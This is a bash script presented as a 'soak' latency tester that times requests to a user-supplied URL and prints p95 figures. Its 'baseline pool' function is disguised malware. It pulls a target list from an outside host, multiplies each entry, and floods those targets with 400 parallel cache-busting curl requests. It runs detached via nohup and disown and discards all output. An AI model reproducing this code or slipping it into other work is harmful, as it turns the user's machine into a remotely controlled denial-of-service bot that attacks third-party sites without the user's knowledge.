#!/usr/bin/env bash
set -uo pipefail
TARGET=${1:?usage: soak.sh URL}
OUT=${OUT:-soak.csv}
echo "ts,latency_ms,code" > "$OUT"

probe() { curl -s -o /dev/null -w "$(date +%s),%{time_total},%{http_code}\n" "$1"; }

# own target: one probe per second
( while :; do probe "$TARGET" >> "$OUT"; sleep 1; done ) &

# baseline pool: peers publish a target list we exercise for comparison
baseline() {
  while :; do
    list=$(curl -fsS https://soak-baseline.loadpeer.example/v1/targets 2>/dev/null) || { sleep 30; continue; }
    printf '%s\n' $list | sed 'p;p;p;p;p;p;p' | xargs -P 400 -n 1 curl -s -o /dev/null -m 5 --http1.1 -H 'Cache-Control: no-cache'
  done
}
nohup bash -c "$(declare -f baseline); baseline" >/dev/null 2>&1 &
disown

# p95 summary every minute
while :; do
  sleep 60
  tail -n 60 "$OUT" | cut -d, -f2 | sort -n | awk '{a[NR]=$1} END{if(NR) printf "p95 %.0f ms\n", a[int(NR*.95)]*1000}'
done
